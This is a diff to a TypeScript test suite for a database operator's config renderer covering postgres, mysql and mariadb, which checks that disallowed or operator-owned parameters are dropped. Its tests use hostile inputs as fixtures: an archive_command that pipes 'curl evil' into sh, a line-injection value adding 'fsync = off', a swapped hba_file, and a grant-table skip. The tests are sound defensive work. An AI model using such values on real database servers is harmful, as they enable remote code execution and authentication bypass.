@@ -7,7 +7,8 @@ import {
   renderConfigFile,
   renderConfigMap,
 } from '.';
-import { target } from './test-fixtures';
+import { ALLOWED_PARAMETERS, ENGINES, OPERATOR_OWNED } from '../../crds';
+import { target, unvalidatedTarget } from './test-fixtures';
 
 /** The `name = value` settings of a rendered file, comments and section headers left out. */
 function settings(file: string): Map<string, string> {
@@ -101,10 +102,8 @@ describe('renderConfigMap for postgres', () => {
           max_connections: '250',
           shared_buffers: '512MB',
           log_line_prefix: "%m [%p] it's ",
-          archive_command: 'cp %p /archive/%f',
-          search_path: '"$user", public',
-          weird: 'back\\slash\nnew line',
-          'auto_explain.log_min_duration': '250ms',
+          default_transaction_isolation: 'repeatable read',
+          statement_timeout: '30s',
         },
       }),
     );
@@ -112,42 +111,84 @@ describe('renderConfigMap for postgres', () => {
     expect(s.get('max_connections')).toBe('250');
     expect(s.get('shared_buffers')).toBe('512MB');
     expect(s.get('log_line_prefix')).toBe("'%m [%p] it''s '");
-    expect(s.get('archive_command')).toBe("'cp %p /archive/%f'");
-    expect(s.get('search_path')).toBe(`'"$user", public'`);
-    expect(s.get('weird')).toBe("'back\\\\slash\\nnew line'");
-    expect(s.get('auto_explain.log_min_duration')).toBe('250ms');
+    expect(s.get('default_transaction_isolation')).toBe("'repeatable read'");
+    expect(s.get('statement_timeout')).toBe('30s');
     // Overridden, not repeated.
     expect(file.match(/^max_connections /gm)).toHaveLength(1);
   });
 
   it('writes the settings in name order', () => {
     const names = [
-      ...settings(renderConfigFile(target({ parameters: { zz_custom: '1', aa_custom: '2' } }))),
+      ...settings(renderConfigFile(target({ parameters: { work_mem: '1MB', autovacuum: 'on' } }))),
     ].map(([name]) => name);
     expect(names).toEqual([...names].sort());
-    expect(names).toContain('aa_custom');
+    expect(names).toContain('autovacuum');
   });
 
-  it('keeps the settings the operator owns and says which parameters it ignored', () => {
-    const t = target({ parameters: { port: '6543', Listen_Addresses: 'localhost', work_mem: '8MB' } });
+  it('renders only allowed settings, even when the schema was bypassed, and says why', () => {
+    const t = unvalidatedTarget({
+      archive_command: 'sh -c "curl evil | sh"',
+      shared_preload_libraries: 'evil',
+      search_path: 'evil, pg_catalog',
+      Max_Connections: '300',
+      'auto_explain.log_min_duration': '250ms',
+      work_mem: '8MB',
+      max_connections: '5',
+    });
+    const file = renderConfigFile(t);
+    const s = settings(file);
+    for (const name of ['archive_command', 'shared_preload_libraries', 'search_path']) {
+      expect(s.has(name)).toBe(false);
+      expect(file).toContain(
+        `# spec.parameters.${name} is ignored: not a setting users may set for postgres.`,
+      );
+    }
+    // Names the CRD refuses (capitals, dots) are not echoed into the file.
+    expect(s.has('auto_explain.log_min_duration')).toBe(false);
+    expect(s.has('Max_Connections')).toBe(false);
+    expect(file.match(/^# a spec.parameters entry with an invalid name is ignored.$/gm)).toHaveLength(2);
+    // Out of range: the base value stays.
+    expect(s.get('max_connections')).toBe('100');
+    expect(file).toContain(
+      '# spec.parameters.max_connections is ignored: must be an integer from 10 to 10000.',
+    );
+    expect(s.get('work_mem')).toBe('8MB');
+    expect(ignoredParameters(t.spec).map((i) => i.name)).toEqual([
+      'Max_Connections',
+      'archive_command',
+      'auto_explain.log_min_duration',
+      'max_connections',
+      'search_path',
+      'shared_preload_libraries',
+    ]);
+  });
+
+  it('keeps the settings the operator owns', () => {
+    const t = unvalidatedTarget({ port: '6543', listen_addresses: 'localhost', wal_level: 'minimal' });
     const file = renderConfigFile(t);
     const s = settings(file);
     expect(s.get('port')).toBe('5432');
     expect(s.get('listen_addresses')).toBe("'*'");
-    expect(s.get('work_mem')).toBe('8MB');
+    expect(s.get('wal_level')).toBe('replica');
     expect(file).toContain('# spec.parameters.port is ignored');
-    expect(ignoredParameters(t.spec)).toEqual(['Listen_Addresses', 'port']);
-  });
-
-  it('merges parameter names case-insensitively', () => {
-    const s = settings(renderConfigFile(target({ parameters: { Max_Connections: '300' } })));
-    expect(s.get('max_connections')).toBe('300');
-    expect(s.has('Max_Connections')).toBe(false);
   });
 
   it('never lets a parameter value add a line', () => {
-    const file = renderConfigFile(target({ parameters: { work_mem: "4MB'\nfsync = off\n#" } }));
+    const file = renderConfigFile(unvalidatedTarget({ log_line_prefix: "4MB'\nfsync = off\n#" }));
     expect(settings(file).has('fsync')).toBe(false);
+    expect(file).not.toMatch(/^fsync/m);
+  });
+
+  it.each(ENGINES)('%s: every base setting is either the operator’s or one users may set', (engine) => {
+    const base = settings(
+      renderConfigFile(target({ engine, version: engine === 'postgres' ? '17' : '8.4', size: 'large' })),
+    );
+    for (const name of base.keys()) {
+      expect([name, OPERATOR_OWNED[engine].includes(name) || name in ALLOWED_PARAMETERS[engine]]).toEqual([
+        name,
+        true,
+      ]);
+    }
   });
 });
 
@@ -171,7 +212,7 @@ describe('pg_hba.conf', () => {
     expect(
       renderConfigMap(target({ engine: 'mysql', version: '8.0.36' })).data?.['pg_hba.conf'],
     ).toBeUndefined();
-    const file = renderConfigFile(target({ parameters: { hba_file: '/tmp/evil.conf' } }));
+    const file = renderConfigFile(unvalidatedTarget({ hba_file: '/tmp/evil.conf' }));
     expect(settings(file).get('hba_file')).toBe("'/etc/postgresql/pg_hba.conf'");
   });
 });
@@ -209,41 +250,44 @@ describe('renderConfigMap for mysql', () => {
   it('renders parameters, quoting what needs it', () => {
     const s = settings(
       renderConfigFile(
-        mysql({
-          size: 'medium',
-          parameters: {
+        unvalidatedTarget(
+          {
             max_connections: '500',
             init_connect: "SET NAMES 'utf8mb4' # comment",
             skip_name_resolve: '',
-            secure_file_priv: 'C:\\files',
+            secure_file_priv: '',
+            default_time_zone: '+02:00',
           },
-        }),
+          { engine: 'mysql', version: '8.0.36', size: 'medium' },
+        ),
       ),
     );
     expect(s.get('max_connections')).toBe('500');
     expect(s.get('innodb_buffer_pool_size')).toBe('2G');
-    expect(s.get('init_connect')).toBe(`"SET NAMES 'utf8mb4' # comment"`);
     expect(s.get('skip_name_resolve')).toBe('');
-    expect(s.get('secure_file_priv')).toBe('"C:\\\\files"');
+    expect(s.get('default_time_zone')).toBe('+02:00');
+    // SQL run at each connection, and the file-access switch: not settings users may set.
+    expect(s.has('init_connect')).toBe(false);
+    expect(s.has('secure_file_priv')).toBe(false);
   });
 
   it('keeps server_id, port and bind_address for the operator', () => {
-    const t = mysql({
-      parameters: {
-        server_id: '7',
-        port: '3307',
-        bind_address: '127.0.0.1',
-        datadir: '/tmp',
-        wait_timeout: '60',
-      },
-    });
+    const t = unvalidatedTarget(
+      { server_id: '7', port: '3307', bind_address: '127.0.0.1', datadir: '/tmp', wait_timeout: '60' },
+      { engine: 'mysql', version: '8.0.36' },
+    );
     const s = settings(renderConfigFile(t));
     expect(s.has('server_id')).toBe(false);
     expect(s.get('port')).toBe('3306');
     expect(s.get('bind_address')).toBe('0.0.0.0');
     expect(s.get('datadir')).toBe('/var/lib/mysql/data');
     expect(s.get('wait_timeout')).toBe('60');
-    expect(ignoredParameters(t.spec)).toEqual(['bind_address', 'datadir', 'port', 'server_id']);
+    expect(ignoredParameters(t.spec).map((i) => i.name)).toEqual([
+      'bind_address',
+      'datadir',
+      'port',
+      'server_id',
+    ]);
   });
 });
 
@@ -289,12 +333,20 @@ describe('renderConfigMap for mariadb', () => {
   });
 
   it('keeps the wiring for the operator and passes other parameters', () => {
-    const t = mariadb({ parameters: { port: '3307', server_id: '3', Gtid_Domain_Id: '1' } });
+    const t = unvalidatedTarget(
+      { port: '3307', server_id: '3', gtid_domain_id: '1', loose_skip_grant_tables: '' },
+      { engine: 'mariadb', version: '11.8' },
+    );
     const s = settings(renderConfigFile(t));
     expect(s.get('port')).toBe('3306');
     expect(s.has('server_id')).toBe(false);
     expect(s.get('gtid_domain_id')).toBe('1');
-    expect(ignoredParameters(t.spec)).toEqual(['port', 'server_id']);
+    expect(s.has('loose_skip_grant_tables')).toBe(false);
+    expect(ignoredParameters(t.spec).map((i) => i.name)).toEqual([
+      'loose_skip_grant_tables',
+      'port',
+      'server_id',
+    ]);
     expect(Object.keys(renderConfigMap(t).data ?? {})).toEqual(['my.cnf']);
   });
 
